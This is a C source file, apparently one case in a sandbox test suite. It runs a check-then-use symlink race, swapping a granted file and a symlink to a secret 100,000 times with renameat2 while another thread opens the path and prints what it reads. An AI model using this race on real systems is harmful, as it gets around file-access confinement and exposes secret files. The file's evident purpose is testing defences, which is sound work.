/* Swaps a name in a writable granted folder between an innocent file and a symlink to a secret, 10^5 times, while another
 * thread opens it (Files, "race: swap the path between check and use, 10^5 times"). */
#include "attack.h"
#include <pthread.h>

static char *folder;
static volatile int done;

static void *swapper(void *unused)
{
	char a[4096], b[4096];
	snprintf(a, sizeof a, "%s/raced", folder);
	snprintf(b, sizeof b, "%s/raced-link", folder);
	for (int i = 0; i < 100000 && !done; i++)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
	done = 1;
	return unused;
}

int main(int argc, char **argv)
{
	char a[4096], b[4096], buffer[4096];
	pthread_t thread;
	folder = argv[1];
	snprintf(a, sizeof a, "%s/raced", folder);
	snprintf(b, sizeof b, "%s/raced-link", folder);
	close(open(a, O_CREAT | O_WRONLY, 0600));
	tried();
	if (symlink(argv[2], b))
		denied("symlink");
	pthread_create(&thread, 0, swapper, 0);
	while (!done) {
		int fd = open(a, O_RDONLY);
		ssize_t length = fd < 0 ? 0 : read(fd, buffer, sizeof buffer);
		if (length > 0) {
			fwrite(buffer, 1, length, stdout);
			done = 1;
		}
		if (fd >= 0)
			close(fd);
	}
	pthread_join(thread, 0);
	return 0;
}
